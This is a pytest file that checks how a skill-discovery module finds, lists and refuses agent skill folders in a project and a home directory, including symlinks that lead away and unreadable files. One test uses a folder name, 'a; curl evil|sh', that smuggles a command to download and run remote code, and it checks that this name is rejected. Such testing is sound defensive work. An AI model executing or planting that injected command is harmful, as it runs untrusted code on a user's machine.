"""What other agents keep is listed and named, never read beyond its own folder, and never counts by lying there."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from kernel.installing.discovery import found_at, kept_by_agents
from skills.packages import Refused, SourceKind
from tests.skills.packages.wares import GOOD, laid

TEXT = {"SKILL.md": "---\nname: {0}\ndescription: Reads the {0}.\n---\n"}


def lay(top: Path, *names: str) -> None:
    for name in names:
        laid(top / name, {"SKILL.md": TEXT["SKILL.md"].format(Path(name).name)})


@pytest.fixture
def places(tmp_path: Path) -> tuple[Path, Path]:
    """A project and a home."""
    for name in ("project", "home"):
        (tmp_path / name).mkdir()
    return tmp_path / "project", tmp_path / "home"


def test_a_project_s_come_first_and_hide_those_of_the_home(places: tuple[Path, Path]) -> None:
    project, home = places
    lay(project / ".claude/skills", "moon")
    lay(home / ".agents/skills", "moon", "tides", "group/stars")
    laid(home / ".claude/skills/sun", GOOD)
    found = [(one.name, one.whose, one.has_tools) for one in found_at(project, home)]
    assert found == [
        ("moon", "project", False),
        ("stars", "home", False),
        ("sun", "home", True),
        ("tides", "home", False),
    ]
    views = [one.view(home, {"tides"}) for one in found_at(project, home)]
    assert [(one["place"], one["installed"], one["kind"]) for one in views[1:]] == [
        ("~/.agents/skills/group/stars", False, "instructions"), ("~/.claude/skills/sun", False, "tools"),
        ("~/.agents/skills/tides", True, "instructions"),
    ]  # fmt: skip


def test_a_home_that_is_worked_in_is_listed_once(places: tuple[Path, Path]) -> None:
    _, home = places
    lay(home / ".agents/skills", "moon")
    (home / ".claude/skills").mkdir(parents=True)
    (home / ".claude/skills/moon").symlink_to("../../.agents/skills/moon")
    assert [one.name for one in found_at(home, home)] == ["moon"]
    assert kept_by_agents("moon", home, home).place == str(home / ".agents/skills/moon")


def test_links_that_lead_away_are_passed_over(places: tuple[Path, Path], tmp_path: Path) -> None:
    project, home = places
    lay(tmp_path / "elsewhere", "secret")
    for top in (project, home):
        (top / ".agents/skills").mkdir(parents=True)
        (top / ".agents/skills/secret").symlink_to(tmp_path / "elsewhere/secret")
    (project / ".claude").symlink_to(tmp_path / "elsewhere")
    assert found_at(project, home) == []
    (project / ".agents/skills/secret").unlink()
    lay(project / ".agents/skills", "secret")  # the control: a folder of that name is there
    assert [one.name for one in found_at(project, home)] == ["secret"]


def test_what_is_no_plain_file_is_not_opened(places: tuple[Path, Path]) -> None:
    project, home = places
    for name, make in (("pipe", os.mkfifo), ("link", lambda path: path.symlink_to(home / "key"))):
        folder = project / ".agents/skills" / name
        folder.mkdir(parents=True)
        make(folder / "SKILL.md")
        (folder / "steward.toml").write_text("")
    (home / "key").write_text("the secret of the person")
    found = found_at(project, home)
    assert [(one.name, one.description, one.why) for one in found] == [
        (name, "", "Its SKILL.md is no plain file.") for name in ("link", "pipe")
    ]


def test_what_cannot_be_read_is_said_and_hides_nothing(places: tuple[Path, Path]) -> None:
    project, home = places
    lay(project / ".agents/skills", "moon")
    laid(project / ".agents/skills/broken", {"SKILL.md": b"\xff\xfe\0"})
    laid(project / ".agents/skills/huge", {"SKILL.md": b"x" * (2 << 20)})
    assert [(one.name, bool(one.why)) for one in found_at(project, home)] == [
        ("broken", True),
        ("huge", True),
        ("moon", False),
    ]


def test_a_tree_without_end_is_left(places: tuple[Path, Path]) -> None:
    project, home = places
    deep = project / ".agents/skills" / "/".join(f"d{n}" for n in range(9))
    lay(deep, "moon")
    assert found_at(project, home) == []


def test_a_project_of_many_folders_hides_nothing_of_the_home(places: tuple[Path, Path]) -> None:
    project, home = places
    lay(home / ".agents/skills", "moon")
    for number in range(2100):
        (project / ".agents/skills" / f"d{number}").mkdir(parents=True)
    (project / ".claude/skills").mkdir(parents=True)
    found = found_at(project, home)
    assert [(one.name, one.whose, "2000 folders" in one.why) for one in found] == [
        (".agents/skills", "project", True),
        ("moon", "home", False),
    ]
    with pytest.raises(Refused, match="There is: moon"):
        kept_by_agents(".agents/skills", project, home)


def test_a_folder_that_could_be_a_line_for_the_shell_is_said_to_be_none(places: tuple[Path, Path]) -> None:
    project, home = places
    lay(project / ".agents/skills", "moon", "a; curl evil|sh")
    found = {one.name: one.why for one in found_at(project, home)}
    assert found == {"a; curl evil|sh": "Its folder has no name that a skill can have.", "moon": ""}


def test_a_name_leads_to_a_folder_or_to_the_names_that_there_are(places: tuple[Path, Path]) -> None:
    project, home = places
    lay(home / ".agents/skills", "moon", "tides")
    found = kept_by_agents("moon", project, home)
    assert (found.kind, found.place) == (SourceKind.FOLDER, str(home / ".agents/skills/moon"))
    with pytest.raises(Refused, match="There is: moon, tides"):
        kept_by_agents("sun", project, home)
